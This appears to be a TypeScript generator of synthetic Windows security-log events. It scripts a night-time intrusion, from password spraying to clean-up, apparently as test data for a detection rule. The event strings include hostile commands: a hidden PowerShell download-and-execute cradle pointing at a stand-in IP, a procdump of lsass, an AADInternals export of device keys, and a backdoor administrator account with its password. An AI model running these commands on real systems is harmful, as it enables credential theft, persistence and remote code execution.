// Thursday night's intrusion, from outside, in the order an operator would work:
//  1. password spraying over the network from 203.0.113.57: one attempt for each of many names,
//     which finds l.brandt's password;
//  2. a brute-force burst against the local Administrator from the same address (25 failures
//     in under six minutes);
//  3. a Remote Desktop session as l.brandt (a local administrator here), and discovery: whoami,
//     net localgroup / net user, and AdFind dumping the directory to files;
//  4. a PowerShell download cradle, and procdump of lsass;
//  5. a local account, helpdesk_tmp, created and put in Administrators;
//  6. the device identity key read as l.brandt, with AADInternals: the seed rule's hit;
//  7. helpdesk_tmp removed and deleted nine minutes after it was made, and sign-out.
import {
  createLocalUser,
  cryptographicOperation,
  deleteUser,
  endProcess,
  enumerated,
  failedLogon,
  groupMembership,
  integrity,
  keyFileOperation,
  keyType,
  logoff,
  logon,
  startProcess,
  system32,
  token,
  userLogoff,
  type Process,
  type Session,
} from './activities.js';
import { rdpLogon, seconds } from './routine.js';
import { type Ticks, type Timeline } from './timeline.js';
import { accounts, addresses, domain, groups, host, keys, weekStartMs } from './world.js';

const thursday = weekStartMs + 3 * 24 * 3_600_000;
const at = (h: number, m: number, s: number): number => thursday + ((h * 60 + m) * 60 + s) * 1000;

/** Names tried once each; those that exist in the domain fail with 0xc000006a, the rest 0xc0000064. */
const sprayedNames: readonly [name: string, exists: boolean][] = [
  ['a.nguyen', true],
  ['admin', false],
  ['b.kowalski', true],
  ['c.dubois', true],
  ['scanner', false],
  ['d.haddad', true],
  ['e.lindqvist', true],
  ['f.moreau', true],
  ['backup', false],
  ['g.rossi', true],
  ['h.tanaka', true],
  ['i.petrova', true],
  ['test', false],
  ['j.osei', true],
  ['k.murphy', true],
  ['l.brandt', true], // the one that works
  ['m.okafor', true],
  ['n.fischer', true],
  ['user1', false],
  ['o.santos', true],
  ['p.novak', true],
  ['q.ahmed', true],
  ['r.silva', true],
  ['s.berg', true],
  ['helpdesk', false],
  ['t.walsh', true],
  ['u.kaur', true],
  ['v.ivanova', true],
  ['w.chen', true],
  ['x.garcia', true],
  ['y.larsen', true],
  ['z.mensah', true],
];

function networkFailure(tl: Timeline, t: Ticks, name: string, userDomain: string, subStatus: string): void {
  failedLogon(
    tl,
    t,
    { name, domain: userDomain },
    {
      type: 3,
      subStatus,
      logonProcess: 'NtLmSsp ',
      auth: 'NTLM',
      workstation: addresses.intruderWorkstation,
      ip: addresses.intruder,
      port: String(tl.rng.int(40000, 60999)),
    },
  );
}

function spray(tl: Timeline): void {
  let t = tl.at(at(1, 52, 10));
  for (const [name, exists] of sprayedNames) {
    if (name === accounts.brandt.name) {
      const s = logon(tl, t, accounts.brandt, {
        logonId: tl.logonId(),
        type: 3,
        logonProcess: 'NtLmSsp ',
        auth: 'NTLM',
        workstation: addresses.intruderWorkstation,
        lmPackage: 'NTLM V2',
        keyLength: 128,
        ip: addresses.intruder,
        port: String(tl.rng.int(40000, 60999)),
      });
      logoff(tl, t + seconds(0.2), s, 3);
    } else {
      networkFailure(tl, t, name, domain.netbios, exists ? '0xc000006a' : '0xc0000064');
    }
    t += seconds(tl.rng.int(8, 19) + tl.rng.next());
  }
}

function bruteForce(tl: Timeline): void {
  let t = tl.at(at(2, 2, 31));
  for (let i = 0; i < 25; i++) {
    networkFailure(tl, t, accounts.localAdministrator.name, host.name, '0xc000006a');
    t += seconds(tl.rng.int(9, 13) + tl.rng.next());
  }
}

interface Shell {
  readonly session: Session;
  readonly cmd: Process;
  run(offsetS: number, image: string, commandLine: string, durationS: number, parent?: Process): Process;
}

function shellOf(
  tl: Timeline,
  start: Ticks,
  session: Session,
  explorer: { pid: number; image: string },
): Shell {
  const cmd = startProcess(tl, start, {
    session,
    image: `${system32}cmd.exe`,
    commandLine: '"C:\\Windows\\system32\\cmd.exe" ',
    parent: explorer,
    elevation: token.elevated,
    label: integrity.high,
  });
  return {
    session,
    cmd,
    run(offsetS, image, commandLine, durationS, parent = cmd) {
      const p = startProcess(tl, start + seconds(offsetS), {
        session,
        image,
        commandLine,
        parent,
        elevation: token.elevated,
        label: integrity.high,
      });
      endProcess(tl, p.started + seconds(durationS), p);
      return p;
    },
  };
}

export function intrusion(tl: Timeline): void {
  spray(tl);
  bruteForce(tl);

  const rdpStart = tl.at(at(2, 14, 37));
  const rdp = rdpLogon(
    tl,
    rdpStart,
    accounts.brandt,
    addresses.intruder,
    addresses.intruderWorkstation,
    'NTLM',
  );
  const explorer = startProcess(tl, rdpStart + seconds(6), {
    session: rdp.limited,
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    parent: { pid: 0x2b3c, image: `${system32}userinit.exe` },
    elevation: token.limited,
    label: integrity.medium,
  });

  // Discovery, from an elevated command prompt.
  const t0 = tl.at(at(2, 18, 2));
  const sh = shellOf(tl, t0, rdp.elevated, explorer);
  sh.run(9, `${system32}whoami.exe`, 'whoami  /all', 0.4);
  const net1 = (offsetS: number, args: string): Process => {
    const net = sh.run(offsetS, `${system32}net.exe`, `net  ${args}`, 0.6);
    return sh.run(offsetS + 0.05, `${system32}net1.exe`, `C:\\Windows\\system32\\net1  ${args}`, 0.5, net);
  };
  const localAdmins = net1(21, 'localgroup administrators');
  enumerated(tl, localAdmins.started + seconds(0.1), 4799, groups.administrators, rdp.elevated, localAdmins);
  const userQuery = net1(37, 'user Administrator');
  enumerated(
    tl,
    userQuery.started + seconds(0.1),
    4798,
    accounts.localAdministrator,
    rdp.elevated,
    userQuery,
  );

  const adfind = 'C:\\Users\\l.brandt\\AppData\\Local\\Temp\\adfind.exe';
  const adfindRuns = [
    'adfind.exe  -f "(objectcategory=person)" > ad_users.txt',
    'adfind.exe  -f "objectcategory=computer" > ad_computers.txt',
    'adfind.exe  -f "(objectcategory=organizationalUnit)" > ad_ous.txt',
    'adfind.exe  -sc trustdmp > trustdmp.txt',
    'adfind.exe  -gcb -sc trustdmp > trustdmp_gc.txt',
    'adfind.exe  -subnets -f (objectCategory=subnet) > subnets.txt',
  ];
  adfindRuns.forEach((commandLine, i) => sh.run(122 + i * 14, adfind, commandLine, 3.5));

  // Tooling: a download cradle, then a dump of lsass.
  sh.run(
    5 * 60 + 40,
    `${system32}WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe  -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.57/a.ps1\')"',
    6,
  );
  sh.run(
    8 * 60 + 2,
    'C:\\Users\\Public\\procdump64.exe',
    'C:\\Users\\Public\\procdump64.exe  -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp',
    9,
  );

  // Persistence: a local administrator account.
  const add = tl.at(at(2, 36, 21));
  net1(Number((add - t0) / 10_000_000n), `user ${accounts.backdoor.name} Welcome#2025 /add`);
  createLocalUser(tl, add + seconds(0.2), rdp.elevated, accounts.backdoor);
  groupMembership(tl, add + seconds(0.21), 4732, rdp.elevated, accounts.backdoor, groups.users);
  const grant = Number((add - t0) / 10_000_000n) + 26;
  net1(grant, `localgroup administrators ${accounts.backdoor.name} /add`);
  groupMembership(
    tl,
    t0 + seconds(grant + 0.2),
    4732,
    rdp.elevated,
    accounts.backdoor,
    groups.administrators,
  );

  // The device identity key, read as l.brandt's elevated session: what the seed rule looks for.
  const keyRead = tl.at(at(2, 39, 48));
  const ps = startProcess(tl, keyRead, {
    session: rdp.elevated,
    image: `${system32}WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine:
      'powershell.exe  -ep bypass -c "Import-Module C:\\Users\\Public\\AADInternals\\AADInternals.psd1; Export-AADIntLocalDeviceCertificate; Export-AADIntLocalDeviceTransportKey"',
    parent: sh.cmd,
    elevation: token.elevated,
    label: integrity.high,
  });
  cryptographicOperation(tl, keyRead + seconds(2.6), rdp.elevated, keys.device, keyType.machine);
  keyFileOperation(tl, keyRead + seconds(2.61), rdp.elevated, ps, keys.device, keyType.machine);
  endProcess(tl, keyRead + seconds(7.5), ps);

  // Clean-up: the account goes, nine minutes after it came.
  const del = tl.at(at(2, 45, 9));
  net1(Number((del - t0) / 10_000_000n), `user ${accounts.backdoor.name} /delete`);
  groupMembership(tl, del + seconds(0.2), 4733, rdp.elevated, accounts.backdoor, groups.administrators);
  groupMembership(tl, del + seconds(0.21), 4733, rdp.elevated, accounts.backdoor, groups.users);
  deleteUser(tl, del + seconds(0.22), rdp.elevated, accounts.backdoor);

  const out = tl.at(at(2, 48, 3));
  endProcess(tl, out, sh.cmd);
  userLogoff(tl, out + seconds(1), rdp.limited);
  endProcess(tl, out + seconds(1.5), explorer);
  logoff(tl, out + seconds(3), rdp.limited, 10);
  logoff(tl, out + seconds(3.01), rdp.elevated, 10);
}
